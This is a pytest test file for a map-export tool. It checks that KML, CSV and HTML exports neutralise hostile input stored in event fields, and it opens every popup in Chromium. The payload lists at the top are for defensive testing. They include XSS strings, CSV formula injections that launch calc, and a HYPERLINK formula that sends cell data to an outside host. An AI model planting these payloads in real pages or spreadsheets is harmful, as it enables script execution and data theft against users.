"""A catalogue of hostile payloads, stored like any event (in quote, place, actors,
source_title and source_url) and exported through the real CLI: the HTML map opened in
real Chromium with every popup opened, the KML parsed as XML, the CSV read back as a
spreadsheet would.

Already covered elsewhere: ``tests/test_export_html.py`` (popup escaping, one map page in
the browser from in-memory events), ``tests/test_export_kml.py``, ``tests/test_export_csv.py``
and ``tests/dashboard/test_dashboard_e2e.py`` (a ``<script>`` payload in the dashboard).
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import http.server
import io
import threading
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from typing import ClassVar

import pytest
from browser import CHROMIUM_ARGS  # tests/faults/conftest.py puts it on the path
from faults_helpers import run

from eventmap.export import write_kml
from eventmap.export.csv import COLUMNS, FORMULA_TRIGGERS, NUMERIC_COLUMNS
from eventmap.model import Event
from eventmap.store import open_store

# Each one, if it ever ran, would set window.__xss, open a dialog or fetch from off the host.
PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    '<img src=x onerror="window.__xss=2;alert(2)">',
    '<svg onload="window.__xss=3;alert(3)">',
    "javascript:window.__xss=4;alert(4)",
    '"><iframe src="javascript:parent.__xss=5;alert(5)"></iframe>',
    "{{7*7}}",
    "${window.__xss=7}",
    "`;window.__xss=8;alert(8);`",
    "</textarea><script>window.__xss=9</script>",
    "\u2028window.__xss=10;\u2029</script><script>window.__xss=10</script>",
    "</script><script>window.__xss=11</script>",
    '<a href="javascript:window.__xss=12">click me</a>',
    '<details open ontoggle="window.__xss=13">',
    '\\";window.__xss=14;//',
    "<style>@import 'http://198.51.100.7/x.css';</style>",
    '<img src="http://198.51.100.7/pixel.png">',
    "]]><script>window.__xss=17</script><![CDATA[",
    "&lt;script&gt;window.__xss=18&lt;/script&gt;",
    "<!-- --><script>window.__xss=19</script>",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dcmd|' /C calc'!A0",
]
URLS = [
    "javascript:window.__xss=30",
    "JaVaScRiPt:window.__xss=31",
    " javascript:window.__xss=32",
    "data:text/html,<script>window.__xss=33</script>",
    'https://example.org/"onmouseover="window.__xss=34',
    "https://example.org/?q=<script>window.__xss=35</script>",
]


def hostile_events() -> list[Event]:
    out = []
    for i, payload in enumerate(PAYLOADS + URLS):
        text = payload if i < len(PAYLOADS) else f"url case {i}"
        out.append(
            Event(
                id=f"xss-{i:02d}",
                date=dt.date(2024, 1, 1) + dt.timedelta(days=i),
                event_type="Riots",
                sub_event_type="Mob violence",
                latitude=30 + (i // 6) * 1.5,
                longitude=40 + (i % 6) * 1.5,
                place=text,
                mention=text,
                country_code="IQ",
                admin1=text,
                actors=[text, "Rioters (Iraq)"],
                quote=f"{text} said the crowd",
                doc_id=f"doc-{i}",
                source_title=text,
                source_url=payload
                if i >= len(PAYLOADS)
                else (payload if i % 2 else "https://example.org/a?b=" + payload),
                origin="manual",
            )
        )
    return out


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    db = str(tmp_path_factory.mktemp("xss") / "events.sqlite")
    with open_store(db) as store:
        assert store.add_events(hostile_events()) == len(PAYLOADS) + len(URLS)
    return db


def export(db: str, fmt: str, path: Path) -> Path:
    result = run("export", "--db", db, "--format", fmt, "-o", str(path))
    assert result.returncode == 0, result.stderr
    assert f"{len(PAYLOADS) + len(URLS)} events written" in result.stderr
    return path


class Markup(HTMLParser):
    """Tags and attributes of an HTML fragment (what Google Earth / a browser would build)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_harmless_html(fragment: str) -> None:
    parser = Markup()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in {"div", "b", "br", "i", "a"}, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name in {"class", "style", "href", "target", "rel"}, name
            if name == "href":
                assert value and value.lower().startswith(("http://", "https://")), value


# --- KML ------------------------------------------------------------------------------------


def test_kml_parses_and_carries_no_payload_markup(hostile_store: str, tmp_path: Path) -> None:
    root = ET.parse(export(hostile_store, "kml", tmp_path / "x.kml")).getroot()
    ns = "{http://www.opengis.net/kml/2.2}"
    # the elements of a KML export of one harmless event: nothing else may appear
    benign = io.StringIO()
    write_kml(
        [
            hostile_events()[0].with_changes(
                place="Basra",
                mention="Basra",
                admin1="Basra",
                actors=["Rioters (Iraq)"],
                quote="a quote",
                source_title="a title",
                source_url="https://example.org/",
            )
        ],
        benign,
    )
    allowed = {el.tag for el in ET.fromstring(benign.getvalue()).iter()}
    for el in root.iter():
        assert el.tag.startswith(ns) and el.tag in allowed, el.tag
        for attr in el.attrib:
            assert attr in {"id", "name"}, attr
    placemarks = root.findall(f".//{ns}Placemark")
    assert len(placemarks) == len(PAYLOADS) + len(URLS)
    by_id = {e.id: e for e in hostile_events()}
    for pm in placemarks:
        description = pm.findtext(f"{ns}description") or ""
        assert_harmless_html(description)  # the HTML Google Earth renders
        data = {d.get("name"): d.findtext(f"{ns}value") or "" for d in pm.iter(f"{ns}Data")}
        event = by_id.pop(data["id"])
        # the data values come back as the very text stored: text, not markup
        assert data["place"] == event.place and data["quote"] == event.quote
        assert data["source_url"] == event.source_url
    assert by_id == {}


# --- CSV ------------------------------------------------------------------------------------


def test_csv_cells_are_defused(hostile_store: str, tmp_path: Path) -> None:
    path = export(hostile_store, "csv", tmp_path / "x.csv")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 1 + len(PAYLOADS) + len(URLS)
    defused = 0
    for row in rows[1:]:
        for name, cell in zip(COLUMNS, row, strict=True):
            if name in NUMERIC_COLUMNS:
                continue
            assert not cell.startswith(FORMULA_TRIGGERS), (name, cell)
            defused += cell.startswith("'")
    assert defused >= 5 * 5  # five formula payloads, each in place, mention, admin1, actors, title


# --- HTML map in Chromium -------------------------------------------------------------------

TILE_PREFIX = "https://tile.openstreetmap.org/"  # the export's fallback without world-atlas


# Open every marker's popup in turn (Leaflet puts its content in the page with innerHTML,
# as on a click), hover and focus its links, and return the text each popup shows.
OPEN_POPUPS_JS = """() => {
    const map = window[Object.keys(window).find(k => k.startsWith('map_'))];
    const markers = [];
    const seen = new Set();
    const visit = layer => {
        if (seen.has(L.stamp(layer))) return;
        seen.add(L.stamp(layer));
        if (layer.eachLayer) { layer.eachLayer(visit); return; }
        if (layer.getPopup && layer.getPopup()) markers.push(layer);
    };
    map.eachLayer(visit);
    const texts = [];
    for (const marker of markers) {
        marker.openPopup();
        const box = marker.getPopup().getElement().querySelector('.leaflet-popup-content');
        for (const a of box.querySelectorAll('a')) {
            a.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
            a.focus();
        }
        texts.push(box.textContent);
        map.closePopup();
    }
    return texts;
}"""


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    """Serves the folder on 127.0.0.1 and notes each path asked for (no log lines)."""

    served: ClassVar[list[str]] = []

    def log_message(self, format: str, *args: object) -> None:
        QuietHandler.served.append(self.path)


@pytest.mark.needs_browser
@pytest.mark.slow
def test_html_map_in_chromium_runs_no_payload(
    hostile_store: str, tmp_path: Path, chromium_path: str
) -> None:
    from needs import require
    from playwright.sync_api import sync_playwright

    from eventmap.errors import BadInput
    from eventmap.export.html_map import find_assets_dir

    try:
        find_assets_dir()  # so the page embeds Leaflet: no CDN request at all
    except BadInput as exc:
        require(False, str(exc))
    QuietHandler.served.clear()
    site = tmp_path / "site"
    site.mkdir()
    export(hostile_store, "html", site / "map.html")
    handler = functools.partial(QuietHandler, directory=str(site))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    page_url = f"http://127.0.0.1:{server.server_address[1]}/map.html"
    total = len(PAYLOADS) + len(URLS)
    try:
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=chromium_path, args=CHROMIUM_ARGS)
            try:
                page = browser.new_page()
                dialogs: list[str] = []
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                requests: list[str] = []
                tiles: list[str] = []

                def gate(route, request):  # type: ignore[no-untyped-def]
                    url = request.url
                    if url.startswith(TILE_PREFIX):
                        tiles.append(url)  # the base map: refused too, no network in tests
                        return route.abort()
                    requests.append(url)
                    if url.startswith("http://127.0.0.1:"):
                        return route.continue_()
                    return route.abort()

                page.route("**/*", gate)
                page.add_init_script("window.__xss = undefined;")
                page.goto(page_url)
                page.wait_for_function(
                    "window.L !== undefined && Object.keys(window).some(k => k.startsWith('map_'))"
                )
                markers = page.locator("path.leaflet-interactive")
                assert markers.count() == total
                markers.first.click(force=True)  # a real click opens a real popup
                page.locator(".leaflet-popup-content").first.wait_for()
                texts = page.evaluate(OPEN_POPUPS_JS)  # each popup opened in turn
                assert len(texts) == total
                page.wait_for_timeout(300)  # let any injected handler fire
                assert page.evaluate("window.__xss") is None
                assert page.evaluate("typeof window.__xss") == "undefined"
                assert dialogs == []
                assert requests == [page_url], requests  # only the page itself
                assert all(u.startswith(TILE_PREFIX) for u in tiles)
                assert page.locator("script:not([src])").count() >= 1
                assert (
                    page.locator(
                        "iframe, svg[onload], img:not(.leaflet-tile), details, textarea"
                    ).count()
                    == 0
                )
                for payload in PAYLOADS:  # each shown, as text, in some popup
                    visible = payload.replace("\u2028", "").replace("\u2029", "")
                    assert any(
                        visible in t.replace("\u2028", "").replace("\u2029", "") for t in texts
                    ), payload
                assert any("{{7*7}}" in t for t in texts) and not any("49" in t for t in texts)
                hrefs = page.evaluate(
                    "Array.from(document.querySelectorAll('a[href]')).map(a => a.href)"
                )
                assert not any(h.lower().startswith(("javascript:", "data:")) for h in hrefs)
            finally:
                browser.close()
    finally:
        server.shutdown()
        server.server_close()
    assert QuietHandler.served and all(p == "/map.html" for p in QuietHandler.served)
